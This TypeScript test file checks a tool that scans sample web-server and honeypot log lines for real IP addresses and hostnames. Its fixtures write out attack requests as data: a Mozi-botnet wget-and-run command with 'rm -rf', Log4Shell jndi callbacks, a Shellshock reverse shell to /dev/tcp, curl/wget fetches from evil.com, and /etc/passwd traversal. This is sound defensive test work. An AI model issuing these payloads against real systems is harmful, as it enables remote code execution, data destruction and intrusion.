import { describe, expect, test } from 'vitest';
import type { Allowed } from './allowed.ts';
import { lineNamings, sentNamings } from './sample.ts';

const ALLOWED: Allowed = {
  hosts: new Set(['openai.com', 'about.censys.io', 'github.com', 'paloaltonetworks.com']),
  addresses: new Set(['127.0.0.1', '0.0.0.0', '192.168.1.1', '::1']),
};

/** A combined line with this request line and User-Agent. */
function combined(request: string, userAgent = '-', source = '192.0.2.1'): string {
  return `${source} - - [24/Nov/2026:04:26:48 +0000] "${request}" 200 3 "-" "${userAgent}"`;
}

function wowhoneypot(sent: string, host = '198.51.100.10:80'): string {
  const [first = ''] = sent.split('\n');
  return `[2026-11-24 13:26:48+0900] 192.0.2.1 ${host} "${first}" 200 False ${btoa(sent)}`;
}

function named(raw: string): string[] {
  return lineNamings(raw, ['line'], ALLOWED).map(({ found }) => found);
}

describe('a sample may hold', () => {
  test.for([
    combined(
      'GET / HTTP/1.1',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0',
    ),
    combined('GET / HTTP/1.1', 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0.0.0) Gecko/20100101'),
    combined(
      'GET /robots.txt HTTP/1.1',
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)',
    ),
    combined('GET / HTTP/1.0', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'),
    combined('GET / HTTP/1.1', 'Expanse, a company, scaninfo@paloaltonetworks.com'),
    combined('GET /wp-login.php?redirect_to=index.jsp HTTP/1.1'),
    combined('GET //xmlrpc.php HTTP/1.1'),
    combined('GET /index.php?f=//etc/passwd HTTP/1.1'),
    combined('GET /img/icon@2x.png HTTP/1.1'),
    combined('GET /a?v=1.2.3.4 HTTP/1.1'),
    combined('GET /oid/1.3.6.1.4.1 HTTP/1.1'),
    combined('GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=Foo::bar HTTP/1.1'),
    combined('GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.1.1:8088/Mozi.a;sh+Mozi.a HTTP/1.1'),
    combined('GET /?x=${jndi:ldap://${hostName}.a.example:1389/a} HTTP/1.1'),
    combined('GET /?u=http://tomcat:8080/manager HTTP/1.1'),
    combined('GET /?c=wget+-O+x.sh+http://203.0.113.9/x.sh HTTP/1.1'),
    combined('GET / HTTP/1.1', '-', '2001:db8::7'),
    combined('GET / HTTP/1.1', '-', 'host-7.example.net'),
    combined('CONNECT www.example.com:443 HTTP/1.1'),
    combined('GET /?u=http://2130706433/ HTTP/1.1'),
    wowhoneypot(
      'POST /GponForm/diag_Form?images/ HTTP/1.1\nHost: 127.0.0.1:8080\nUser-Agent: Hello, World\n\nx=1',
      '127.0.0.1:8080',
    ),
    wowhoneypot('GET / HTTP/1.1\nUser-Agent: CensysInspect/1.1 (+https://about.censys.io/)\n\n', 'blank:80'),
    wowhoneypot(
      'POST /hnap HTTP/1.1\nSOAPAction: "http://purenetworks.com/HNAP1/GetX"\n\n<x xmlns="http://www.w3.org/2001/XMLSchema"/>',
    ),
  ])('%s', (raw) => {
    expect(named(raw)).toEqual([]);
  });
});

describe('a sample may not hold', () => {
  test.for([
    ['a source', combined('GET / HTTP/1.1', '-', '8.8.8.8'), ['the real address "8.8.8.8"']],
    ['a named source', combined('GET / HTTP/1.1', '-', 'dns.google'), ['the real host "dns.google"']],
    [
      'an IPv6 source',
      combined('GET / HTTP/1.1', '-', '2606:4700::1111'),
      ['the real address "2606:4700::1111"'],
    ],
    [
      'an address written as one number',
      combined('GET /?u=http://134744072/ HTTP/1.1'),
      ['the real address "8.8.8.8"'],
    ],
    ['an address in a path', combined('GET /8.8.8.8/x HTTP/1.1'), ['the real address "8.8.8.8"']],
    [
      'an address after /dev/tcp/',
      combined('GET / HTTP/1.1', '() { :;}; bash -i >/dev/tcp/8.8.8.8/443'),
      ['the real address "8.8.8.8"'],
    ],
    [
      'an address in a User-Agent',
      combined('GET / HTTP/1.1', 'wget http://8.8.8.8/x'),
      ['the real address "8.8.8.8"'],
    ],
    [
      'a bracketed IPv6 address',
      combined('GET /?u=http://[2606:4700::1111]/ HTTP/1.1'),
      ['the real address "2606:4700::1111"'],
    ],
    [
      'a callback host',
      combined('GET /?x=${jndi:ldap://${hostName}.oast.fun/a} HTTP/1.1'),
      ['the real host "x.oast.fun"'],
    ],
    [
      'a jndi name without slashes',
      combined('GET /?x=${jndi:dns:oast.fun} HTTP/1.1'),
      ['the real host "oast.fun"'],
    ],
    [
      'a percent-encoded host',
      combined('GET /?u=http%3A%2F%2Fevil.com HTTP/1.1'),
      ['the real host "evil.com"'],
    ],
    [
      'a doubly encoded host',
      combined('GET /?u=http%253A%252F%252Fevil.com HTTP/1.1'),
      ['the real host "evil.com"'],
    ],
    [
      'a base64 parameter',
      combined(`GET /?u=${btoa('curl http://evil.com/x')} HTTP/1.1`),
      ['the real host "evil.com"'],
    ],
    ['a host after wget', combined('GET /?c=wget+evil.com/x.sh HTTP/1.1'), ['the real host "evil.com"']],
    ['a host after =//', combined('GET /?u=//evil.com HTTP/1.1'), ['the real host "evil.com"']],
    [
      'a userinfo in front',
      combined('GET /?u=http://example.com@evil.com/ HTTP/1.1'),
      ['the real host "evil.com"'],
    ],
    ['a proxied host', combined('CONNECT www.google.com:443 HTTP/1.1'), ['the real host "www.google.com"']],
    ['an absolute target', combined('GET http://www.baidu.com/ HTTP/1.1'), ['the real host "www.baidu.com"']],
    [
      'a host of the list outside a User-Agent',
      combined('GET /?u=https://openai.com/ HTTP/1.1'),
      ['the real host "openai.com"'],
    ],
    [
      'a subdomain of the list',
      combined('GET / HTTP/1.1', 'x (+https://a.openai.com/)'),
      ['the real host "a.openai.com"'],
    ],
    [
      'a look-alike of a reserved name',
      combined('GET /?u=http://notexample.com/ HTTP/1.1'),
      ['the real host "notexample.com"'],
    ],
    ['a Host field', wowhoneypot('GET / HTTP/1.1\n\n', 'evil.com:80'), ['the real host "evil.com"']],
    [
      'a header inside base64',
      wowhoneypot('GET / HTTP/1.1\nReferer: http://evil.com/\n\n'),
      ['the real host "evil.com"'],
    ],
    ['a body inside base64', wowhoneypot('POST / HTTP/1.1\n\nip=8.8.8.8'), ['the real address "8.8.8.8"']],
    ['a line that does not read', 'hello http://evil.com/', ['the real host "evil.com"']],
  ] as const)('%s', ([, raw, says]) => {
    expect(named(raw)).toEqual(says);
  });
});

test('what is named inside base64 is placed where its characters stand in the raw line', () => {
  const raw = wowhoneypot('GET / HTTP/1.1\nReferer: http://evil.com/\n\n');
  const [mistake] = lineNamings(raw, ['line'], ALLOWED);
  const payload = raw.lastIndexOf(' ') + 1;
  // 31 bytes stand before the host; four characters stand for three bytes.
  expect(mistake?.offset).toBeGreaterThanOrEqual(payload + Math.floor((31 * 4) / 3));
  expect(mistake?.offset).toBeLessThan(payload + Math.ceil((32 * 4) / 3));
});

test('a request as sent knows its User-Agent from its other headers', () => {
  const sent = (name: string) => `GET / HTTP/1.1\n${name}: GPTBot (+https://openai.com/gptbot)\n\n`;
  expect(sentNamings(sent('User-Agent'), [], ALLOWED)).toEqual([]);
  expect(sentNamings(sent('X-From'), [], ALLOWED)).toHaveLength(1);
});
